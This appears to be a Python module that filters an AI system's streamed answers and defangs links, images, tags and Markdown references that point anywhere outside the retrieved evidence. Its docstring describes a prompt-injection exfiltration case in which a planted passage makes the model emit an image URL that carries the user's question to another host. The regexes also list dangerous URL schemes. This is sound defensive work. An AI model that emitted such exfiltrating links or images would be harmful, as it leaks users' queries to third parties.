"""The only place where a link or an image of an answer is let through or defanged.

What a model writes is rendered by whoever shows it, and an image is loaded without a click: a passage that makes the
model write `![x](https://elsewhere/?what-was-asked)` would send away what was asked. So only what is plainly a link
into the evidence passes as it is. Everything else that CommonMark, a linkifier or a fence that is drawn would turn into
a link, an image, a tag or a request leaves as text: brackets of Markdown behind a backslash, the `<` of a tag as
`&lt;`, addresses as `defanged` writes them. Nothing is cut out, so nothing joins.
"""

from __future__ import annotations

import html
import re
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from functools import cached_property, lru_cache
from urllib.parse import urlsplit

from groundgraph.answers.label_gate import DRAWN, Gate
from groundgraph.core.evidence import SourceResult

# What a renderer, a linkifier or a browser would take for an address, and the form in which none takes it for one.
#
# A defanged address stays readable and leads nowhere: `https[://]evil[.]example/a`, `evil[.]example`,
# `[//]evil[.]example`, `mailto[:]someone[@]evil[.]example`, `https[&]colon;`.

# Never part of an address in a text: white space, quotation marks, brackets but for round ones.
APART = r"\s<>\"“”„«»`\[\]{}|^、。，；：！？・「」『』【】（）［］《》｜"
# A character of a host's label: linkify takes any that is neither white space nor punctuation.
_LETTER = rf"[^{APART}!#%&'()*,./:;?@\\…’‘·—–\x00-\x1f\x7f-\x9f]"
# Those that linkify takes for the end of a host that has no scheme: the oldest, and those of countries.
_TOP = (
    r"(?:biz|com|edu|gov|net|org|pro|web|xxx|aero|asia|coop|info|museum|name|shop|рф|xn--[a-z0-9\-]{1,59}|"
    "a[cdefgilmnoqrstuwxz]|b[abdefghijmnorstvwyz]|c[acdfghiklmnoruvwxyz]|d[ejkmoz]|e[cegrstu]|f[ijkmor]|"
    "g[abdefghilmnpqrstuwy]|h[kmnrtu]|i[delmnoqrst]|j[emop]|k[eghimnprwyz]|l[abcikrstuvy]|m[acdeghklmnopqrstuvwxyz]|"
    "n[acefgilopruz]|om|p[aefghklmnrstwy]|qa|r[eosuw]|s[abcdeghijklmnortuvxyz]|t[cdfghjklmnortvwz]|u[agksyz]|"
    "v[aceginu]|w[fs]|y[et]|z[amw])"
)
# From the beginning of a host on; a name with a dot inside a path, as in `src/main.py`, begins none.
_HOST = rf"(?<!{_LETTER})(?<!{_LETTER}\.)(?!(?<=[\w.\-]/)[a-z0-9][\w.\-]*+(?!{_LETTER}))(?:{_LETTER}++\.)+"
_ADDRESS = "|".join(
    [
        r":/{2,}[^/\\]",
        # `//` begins a comment or divides unless a host, or what stands in markup, follows.
        rf"(?<![^\W_])(?<![/:])/{{2,}}(?:localhost|[^/.@]*(?:@|\.+(?:\w|{_LETTER})))",
        r"(?<=[=(,'])/{2,}[^/\\]",
        r"(?<![^\W_])(?:(?:https?|ftps?|wss?|file|blob):++[^\s\\]|(?:mailto|javascript|vbscript):)",
        r"(?<![^\W_])data:[\w.+\-]{0,80}[/;,]",
        r"(?<![^\W_])www\.\w",
        r"\S@(?:[\w\-]++\.)+[^\W\d_]{2}",
        # A network (10.0.0.0/8) is none.
        r"(?<![\w.])(?:\d{1,3}\.){3}\d{1,3}(?::\d{1,5})?/(?!\d{1,2}(?![\w/]))",
        rf"{_HOST}[^\W\d_]{{2,63}}(?::\d{{1,5}})?(?:/|[?#][^\s?!.)])",
    ]
)
_IN_CODE = re.compile(_ADDRESS, re.IGNORECASE)
# To a linkifier a host alone is a link too; it leaves code alone, where `user.id` is a name.
_IN_TEXT = re.compile(rf"{_ADDRESS}|{_HOST}{_TOP}(?![^\W_])(?!\.[^\W_])", re.IGNORECASE)
# Markup that a linkifier takes for a part of a host, or of the name before one.
_GOES_ON = re.compile(r"(?<![^\W_])(?<![/:])/{2,}[^/]*\Z")
_WITHIN = frozenset('"“”„«»`{}|^、。，；：！？・「」『』【】（）［］《》')
# Full stops of other scripts, which a browser reads as the dot of a host.
_DOTS = str.maketrans("．｡。", "...")
_JOINT = re.compile(
    r"(?<!\\)\\*+(?::[\\/]{2,}|(?<!:):++(?=.)|(?<=[ot]):|[.．｡](?=\w)|@(?=\w))|(?<![\\/])[\\/]{2,}|&(?:#\w{1,8}|\w{2,31});?"
)
_HARMLESS = frozenset("&<>\"' \xa0")
_BEHIND = ".,;:!?'*_~\\"


def is_address(run: str, before: str = "", after: str = "", *, code: bool = False) -> bool:
    """Whether anything in `run`, which holds nothing of `APART`, leads somewhere as it stands or read as Markdown.

    Args:
        run: the text.
        before: the character before it, if any.
        after: the character behind it, if any.
        code: whether it stands in code, where a host alone is none.
    """
    pattern = _IN_CODE if code else _IN_TEXT
    unescaped = html.unescape(run)
    for text in dict.fromkeys((run, unescaped, unescaped.replace("\\", ""), unescaped.translate(_DOTS))):
        if text.startswith("//") and text.strip("/\\") and before.strip():
            return True
        if pattern.search(text) or (after in _WITHIN and not code and _GOES_ON.search(text)):
            return True
    return False


def defanged(text: str) -> str:
    """`text`, an address or anything around one, with brackets around whatever makes it lead somewhere."""
    return _JOINT.sub(_apart, text)


def _apart(found: re.Match[str]) -> str:
    joint = found.group()
    if joint[0] == "&":
        decoded = html.unescape(joint)
        return joint if decoded == joint or decoded in _HARMLESS else f"[&]{joint[1:]}"
    if not joint.strip("\\"):
        return joint
    # Behind a scheme browsers take a backslash for a slash; elsewhere one escapes what follows.
    bare = joint.lstrip("\\")
    joint = (joint if bare[0] == "/" else bare).replace("\\", "/")
    # A bracket that closes must not meet what would make a link or a definition of it.
    meets = found.string[found.end() : found.end() + 1]
    return f"[{joint}]" + ("\\" if meets in ("(", ":") else "")


def url_end(text: str) -> int:
    """Where an address at the beginning of `text` ends when it stands in a sentence: before its punctuation."""
    end, closing, opening = len(text), text.count(")"), text.count("(")
    while end and (text[end - 1] in _BEHIND or (text[end - 1] == ")" and opening < closing)):
        end -= 1
        closing -= text[end] == ")"
    return end


_HOLDS_NOTHING_APART = re.compile(f"[^{APART}]+")
_SCHEME = re.compile(r"(?<![a-z0-9+.\-])[a-z][a-z0-9+.\-]*+:(?:[/\\]|(?<=mailto:))|(?<!:)//", re.IGNORECASE)
# What may stand before a host without being taken for a part of it.
_BEFORE = "\\()*_'.,;:!?-$+=#%&/…’‘·—–"
# What runs or shows what it holds itself leads nowhere in the evidence.
_NEVER = re.compile(r"(?:javascript|vbscript|data|blob|file):", re.IGNORECASE)
_DESTINATION = re.compile(r"\]\(\s*+<?([^\s<>()]+)|^[ ]{0,3}\[[^\]\n]+\]:\s*+<?([^\s<>]+)", re.MULTILINE)


@dataclass(frozen=True)
class LinkTargets:
    """What may be linked to, as `same_place` writes it.

    Attributes:
        links: the URLs of the evidence, and the addresses that stand in its text.
        hosts: the hosts of the URLs of the evidence itself. An image is loaded without a click, so one must come from
            such a host and stand in the text.
    """

    links: frozenset[str] = frozenset()
    hosts: frozenset[str] = frozenset()

    @classmethod
    def of(cls, evidence: Iterable[SourceResult]) -> LinkTargets:
        """The targets that `evidence` allows."""
        links: set[str] = set()
        hosts: set[str] = set()
        for result in evidence:
            links |= _targets_in(result.content)
            for value in (result.source_id, *result.metadata.values()):
                links |= _targets_in(value) if isinstance(value, str) else frozenset()
            url = result.metadata.get("url")
            if isinstance(url, str) and url:
                links.add(same_place(url))
                hosts.add(_host(url))
        return cls(frozenset(links - {""}), frozenset(hosts - {""}))

    def allows(self, target: str) -> bool:
        """Whether a link may lead to `target`."""
        place = same_place(target)
        return place in self.links and not _NEVER.match("".join(place.split()))

    def allows_image(self, target: str) -> bool:
        """Whether an image may be loaded from `target`."""
        return self.allows(target) and _host(target) in self.hosts

    def allowed_part(self, target: str, *, image: bool = False) -> str:
        """As much of `target` as may be linked to: all of it, or what stands before a fragment that the evidence does
        not have; nothing when even that may not."""
        allows = self.allows_image if image else self.allows
        page = target.partition("#")[0]
        return target if allows(target) else page if page != target and allows(page) else ""


def address_in(run: str) -> tuple[int, int]:
    """Where the address in `run` begins and ends, but for the punctuation around it."""
    found = _SCHEME.search(run)
    start = found.start() if found else len(run) - len(run.lstrip(_BEFORE))
    return start, start + url_end(run[start:])


def same_place(url: str) -> str:
    """`url` in the form in which two are compared: entities read, host in small letters, http as https."""
    plain = html.unescape(url.strip())
    scheme, colon, rest = plain.partition(":")
    if colon and scheme.lower() in ("http", "https"):
        plain = rest.removeprefix("//")
    elif colon and scheme.lower() == "mailto":
        plain = rest
    else:
        plain = plain.removeprefix("//")
    end = re.search(r"[/?#]", plain)
    at = end.start() if end else len(plain)
    return plain[:at].lower() + plain[at:].rstrip("/")


@lru_cache(maxsize=4096)
def _targets_in(text: str) -> frozenset[str]:
    found: set[str] = set()
    for match in _HOLDS_NOTHING_APART.finditer(text):
        run = match.group()
        if is_address(run):
            start, end = address_in(run)
            found.add(same_place(run[start:end]))
    if "](" in text or "]:" in text:
        found |= {same_place(target) for pair in _DESTINATION.findall(text) for target in pair if target}
    return frozenset(found - {""})


def _host(url: str) -> str:
    try:
        return (urlsplit(html.unescape(url.strip())).hostname or "").lower()
    except ValueError:
        return ""


# What is let through.

# More than this is never held back: a longer address is none of the evidence, a longer line of code is none.
_MAX_ADDRESS = 2000
_MAX_CODE = 256
_MAX_LINE = 200
_INLINE = r"[^\s()<>\\`\[\]\"']"
_DEST = rf"(?:{_INLINE}|\({_INLINE}*+\))++"
_DEST_SO_FAR = rf"<?[^\s<>\\`\[\]\"']{{0,{_MAX_ADDRESS}}}>?"
_LINK_SO_FAR = re.compile(rf"\]\({_DEST_SO_FAR}\Z")
_TO = rf"(?P<angle><)?(?P<to>{_DEST})(?(angle)(?=>[\s)])|(?=[\s)]))"
_LINK = re.compile(rf"\]\({_TO}")
_WORD = re.compile(r"\]\((?:[\w\-]++(?=[\s)])|\))")
_IMAGE = re.compile(rf"!\[(?P<text>[^\[\]`\\<!\r\n]{{0,200}})\]\({_TO}")
_IMAGE_SO_FAR = re.compile(rf"!\[[^\[\]`\\<!\r\n]{{0,200}}(?:\](?:\({_DEST_SO_FAR})?)?\Z")
_NO_IMAGE = re.compile(r"!\[[^\[\]`\\<!\r\n]{0,200}\](?!\()")
_GAP = r"[^\S\r\n]{0,99}+(?:\r\n?|\n)?+[^\S\r\n]{0,99}+"
# An address that goes on behind the longest is one that is too long, and no text.
_DEFINITION = re.compile(
    rf"\]:{_GAP}(?:<({_DEST})>|([^ \t\r\n]{{1,{_MAX_ADDRESS}}}+))(?=[^\S\r\n]{{0,99}}+(?:[\r\n\"'(]|\Z)|\S)"
)
_PROSE = re.compile(rf"\]:{_GAP}(?:[\w\-]++(?=[.,;:!?]{{0,9}}(?:\s|\Z))|[\r\n]|\Z)")
_DEFINITION_SO_FAR = re.compile(rf"\]:{_GAP}[^ \t\r\n]{{0,{_MAX_ADDRESS}}}+[^\S\r\n]{{0,99}}+\Z")
# Tags that load nothing and lead nowhere, without attributes.
_TAG = re.compile(
    r"</?(?:b|i|u|s|em|strong|sub|sup|small|mark|del|ins|q|cite|abbr|kbd|samp|var|code|br|wbr|hr|p|div|span|blockquote|"
    r"[uod]l|li|d[td]|table|caption|t(?:head|body|foot|r|h|d)|h[1-6]|details|summary) ?/?>",
    re.IGNORECASE,
)
_AUTOLINK = re.compile(rf"<(?=[^\s<>]*[:@])({_DEST})>")
_TAG_SO_FAR = re.compile(rf"<[^\s<>]{{0,{_MAX_ADDRESS}}}(?: ?/?)\Z")
_OPENS_TAG = re.compile(r"<[a-zA-Z/!?]")
_CODE = {
    "`": re.compile(r"`([^`\r\n|]{1,256})`(?!`)"),
    "``": re.compile(r"``((?:[^`\r\n|]|(?<!`)`(?!`)){1,256})``(?!`)"),
}
# What this gate writes for the bracket of a tag divides as that did.
_BRACKET = "&lt;"
_RUN = re.compile(f"(?:[^{APART}!~&]|!(?!\\[)|~(?!~~)|&(?!lt;))+")
_TICKS = re.compile(r"`+")
# What may stand before a fence, what may be one, and the rest of its line.
_LINE = re.compile(rf"([ \t>*+\-\d.)]{{0,60}})(`+|~{{3,}}|~{{0,2}}\Z)?([^\r\n]{{0,{_MAX_LINE}}})")
_LINE_END = re.compile(r"[\r\n]")
_LANGUAGE = re.compile(r"[ \t]*+([\w+#.\-]*+)[ \t]*+\Z")
_SPACE = re.compile(r"\s")
_STOP = "。"
_HOST_BEHIND = re.compile(r"[a-z0-9.。\-]{1,63}(?::\d{1,5})?/[^\s/]", re.IGNORECASE)
_HOST_SO_FAR = re.compile(r"[a-z0-9.。\-]{0,63}(?::\d{0,5})?/?\Z", re.IGNORECASE)
_BEHIND_HOST = re.compile(r"[/?]")
# What else stands behind an address, up to white space, without going on with it; or a bracket, which ends it.
_ENDS = re.compile(r"(?:[\"'”»」】）》)\]}>*_~.,;:!?…|。，]{0,16}(?=\s|\Z)|(?=[\]})>]))")


@dataclass
class LinkGate(Gate):
    """Gives a text without anything that leads away from `targets`; every beginning of it is as safe as the whole.

    Attributes:
        given: where links and images may lead, or what tells it, which is asked once something may be one.
        removed: where those led that do not any more, defanged, at most 200 characters each.
    """

    given: LinkTargets | Callable[[], LinkTargets]
    removed: list[str] = field(default_factory=list)
    # The last character that has left, and whether a backslash escapes the next one.
    _last: str = field(default="", init=False)
    _escapes: bool = field(default=False, init=False)
    _line_begins: bool = field(default=True, init=False)
    _blank: bool = field(default=True, init=False)
    # The run that opened the fence around what comes; and whether a page may draw what is in it.
    _fence: str = field(default="", init=False)
    _drawn: bool = field(default=False, init=False)
    # Set until the next blank line: what looks like code there may be none to whoever renders it. The last is set for
    # good at the first fence that need not be one.
    _in_html: bool = field(default=False, init=False)
    _unpaired: bool = field(default=False, init=False)
    _unsure: bool = field(default=False, init=False)
    # Set for good when an image may show what a reference leads to.
    _shows: bool = field(default=False, init=False)
    # Set within a run that is too long for an address of the evidence.
    _long: bool = field(default=False, init=False)

    @cached_property
    def targets(self) -> LinkTargets:
        """Where links and images may lead."""
        return self.given() if callable(self.given) else self.given

    def _pass(self, *, final: bool) -> None:
        text, at = self._held, 0
        while at < len(text) and (decided := self._next(text, at, final)):
            piece, at = decided
            self._let(piece)
        self._held = text[at:]

    def _let(self, piece: str) -> None:
        super()._let(piece)
        if piece:
            slashes = len(piece) - len(piece.rstrip("\\"))
            self._escapes = (slashes + (self._escapes and slashes == len(piece))) % 2 == 1
            self._last = piece[-1]
            self._blank = self._blank and not piece.strip(" \t")

    def _next(self, text: str, at: int, final: bool) -> tuple[str, int] | None:
        """What leaves next of `text` from `at` on, and where that ends; nothing while more input could change it."""
        char = text[at]
        if self._line_begins:
            return self._line(text, at, final)
        if char in "\r\n":
            return self._line_end(char, at)
        if run := _RUN.match(text, at):
            return self._run(text, at, run.end(), final)
        self._long = False
        if text.startswith(_BRACKET, at):
            return _BRACKET, at + len(_BRACKET)
        if self._in_code:
            return char, at + 1
        if char == _STOP and self._last.isascii() and self._last.isalnum():
            return self._stop(text, at, final)
        handler = {"`": self._ticks, "<": self._angle, "!": self._image, "]": self._bracket}.get(char)
        return handler(text, at, final) if handler else (char, at + 1)

    def _line_end(self, char: str, at: int) -> tuple[str, int]:
        if self._blank:
            self._in_html = self._unpaired = False
        self._line_begins, self._blank, self._long = True, True, False
        return char, at + 1

    def _line(self, text: str, at: int, final: bool) -> tuple[str, int] | None:
        """The beginning of a line, as far as a fence opens or closes with it."""
        found = _LINE.match(text, at)
        assert found is not None
        markers, run, info = found.groups(default="")
        is_cut = found.end() == len(text) and len(info) < _MAX_LINE
        if not final and is_cut and (len(run) >= 3 or not info):
            return None
        self._line_begins = False
        if len(run) < 3:
            return "", at
        is_fence = self._closes(markers, run, info) if self._fence else self._opens(markers, run, info)
        return (text[at : found.start(3)], found.start(3)) if is_fence else ("", at)

    def _closes(self, markers: str, run: str, info: str) -> bool:
        if not run.startswith(self._fence) or info.strip(" \t") or len(markers) > 3 or markers.strip(" "):
            return False
        self._fence = ""
        self._unpaired = False
        return True

    def _opens(self, markers: str, run: str, info: str) -> bool:
        if markers or self._unsure or self._in_html or "`" in info or len(info) == _MAX_LINE:
            self._unsure = True
            return False
        language = _LANGUAGE.match(info)
        plain = language is not None and not (DRAWN.fullmatch(language[1]) or is_address(language[1]))
        self._fence, self._drawn = run, not plain
        return True

    @property
    def _in_code(self) -> bool:
        """Whether a fence is open in which a page shows the text as it is."""
        return bool(self._fence) and not self._drawn

    def _run(self, text: str, at: int, end: int, final: bool) -> tuple[str, int] | None:
        """What holds neither white space nor brackets: a word, or an address."""
        self._long |= end - at > _MAX_ADDRESS
        if self._long:
            return self._too_long(text, at, end, final)
        if end == len(text) and not final:
            return None
        piece, allowed, gone = self._address(text[at:end], self._last, text[end : end + 1], code=self._in_code)
        if not self._fence and _BEHIND_HOST.search(allowed):
            if not final and len(text) < end + 20 and not _SPACE.search(text, end):
                return None
            if not _ENDS.match(text, end):
                piece += " "
        self._note(gone)
        return piece, end

    def _too_long(self, text: str, at: int, end: int, final: bool) -> tuple[str, int] | None:
        if end - at < _MAX_ADDRESS and end == len(text) and not final:
            return None
        window = text[at : min(end, at + _MAX_ADDRESS)]
        apart = " " if any(char in window for char in ".:/@&\\") and len(window) == _MAX_ADDRESS else ""
        piece = defanged(window)
        if piece != window:
            self.removed.append(piece[:200])
        return piece + apart, at + len(window)

    def _address(self, run: str, before: str, after: str = "", *, code: bool) -> tuple[str, str, str]:
        """`run` as it may leave; the address in it if that is one of the evidence; and what does not pass of it."""
        # To a linkifier these are letters of the host behind them.
        joined = before in ("`", "^", "|") and not code
        if not (is_address(run, before, after, code=code) or (joined and is_address(f"x{run}"))):
            return run, "", ""
        start, end = address_in(run)
        address = run[start:end]
        joined = joined or is_address(run[:start], before, code=code)
        allowed = "" if joined else self.targets.allowed_part(address)
        if allowed:
            return run[:start] + allowed + run[end:], allowed, address if allowed != address else ""
        piece = defanged(run)
        return piece, "", run.strip("()*_'~,;.!?") if piece != run else ""

    def _ticks(self, text: str, at: int, final: bool) -> tuple[str, int] | None:
        found = _TICKS.match(text, at)
        assert found is not None
        ticks = found.group()
        if found.end() == len(text) and not final:
            return None
        pattern = self._code_in(ticks)
        if pattern:
            code = pattern.match(text, at)
            end = code.end() if code else at + _MAX_CODE
            if not final and len(text) <= end and not _LINE_END.search(text, at):
                return None
            if code:
                return ticks + _RUN.sub(self._within_code, code[1]) + ticks, code.end()
        self._unpaired = True
        return ticks, found.end()

    def _code_in(self, ticks: str) -> re.Pattern[str] | None:
        """What code within `ticks` looks like; None where whoever renders the text may take that for no code."""
        doubtful = self._escapes or self._unsure or self._in_html or self._unpaired or self._fence
        return None if doubtful else _CODE.get(ticks)

    def _within_code(self, run: re.Match[str]) -> str:
        before = run.string[run.start() - 1] if run.start() else ""
        piece, _, gone = self._address(run.group(), before, code=True)
        self._note(gone)
        return piece

    def _stop(self, text: str, at: int, final: bool) -> tuple[str, int] | None:
        """An ideographic full stop: the dot of a host where an address goes on behind it."""
        host = _HOST_BEHIND.match(text, at + 1)
        if host is None:
            return (_STOP, at + 1) if final or not _HOST_SO_FAR.match(text, at + 1) else None
        self.removed.append(f"[{_STOP}]{host.group()}")
        return f"[{_STOP}]", at + 1

    def _angle(self, text: str, at: int, final: bool) -> tuple[str, int] | None:
        tag = _TAG.match(text, at)
        if tag:
            self._in_html = True
            return tag.group(), tag.end()
        link = _AUTOLINK.match(text, at)
        if link and (allowed := self._allowed(link[1])):
            return f"<{allowed}>", link.end()
        if not final and _TAG_SO_FAR.match(text, at):
            return None
        return (_BRACKET if _OPENS_TAG.match(text, at) else "<"), at + 1

    def _image(self, text: str, at: int, final: bool) -> tuple[str, int] | None:
        """`![`; `!` elsewhere is part of a run."""
        if self._escapes:
            return "!", at + 1
        found = _IMAGE.match(text, at)
        if found is None:
            if not final and _IMAGE_SO_FAR.match(text, at):
                return None
            text_only = _NO_IMAGE.match(text, at)
            if text_only is None or self._leads(text_only.group()):
                return "\\!", at + 1
            self._shows |= bool(re.search(r"\w", text_only.group()))
            return "!", at + 1
        if not self._leads(found["text"]) and (allowed := self._allowed(found["to"], image=True)):
            return text[at : found.start("to")] + allowed, found.end()
        if self.targets.allowed_part(found["to"]):
            self._note(found["to"])
        return "\\!", at + 1

    def _allowed(self, target: str, *, image: bool = False) -> str:
        """As much of `target` as may be linked to; what does not pass of it is noted."""
        allowed = self.targets.allowed_part(target, image=image)
        if allowed and allowed != target:
            self._note(target)
        return allowed

    def _leads(self, text: str) -> bool:
        return any(is_address(run, "[") for run in re.split(f"[{APART}]+", text))

    def _bracket(self, text: str, at: int, final: bool) -> tuple[str, int] | None:
        follows = text[at + 1 : at + 2]
        if follows == "(":
            return self._inline_link(text, at, final)
        if follows == ":":
            return self._definition(text, at, final)
        return None if not follows and not final else ("]", at + 1)

    def _inline_link(self, text: str, at: int, final: bool) -> tuple[str, int] | None:
        found = _LINK.match(text, at)
        if found and (allowed := self._allowed(found["to"])):
            return text[at : found.start("to")] + allowed, found.end()
        if _WORD.match(text, at):
            return "](", at + 2
        if not found and not final and _LINK_SO_FAR.match(text, at):
            return None
        if found and not is_address(found["to"]):
            self._note(found["to"])
        return "]\\(", at + 2

    def _definition(self, text: str, at: int, final: bool) -> tuple[str, int] | None:
        """What a reference leads to, and an image may refer to it too."""
        if not final and _DEFINITION_SO_FAR.match(text, at):
            return None
        found = _DEFINITION.match(text, at)
        if not found:
            # Until more than that has come, it leads to the first that stands there.
            return ("]:" if _PROSE.match(text, at) and not self._shows else "]\\:"), at + 2
        target = found[1] or found[2]
        if re.fullmatch(_DEST, target) and self.targets.allowed_part(target, image=True) == target:
            return found.group(), found.end()
        return "]\\:", at + 2

    def _note(self, target: str) -> None:
        if target:
            self.removed.append(defanged(target)[:200])
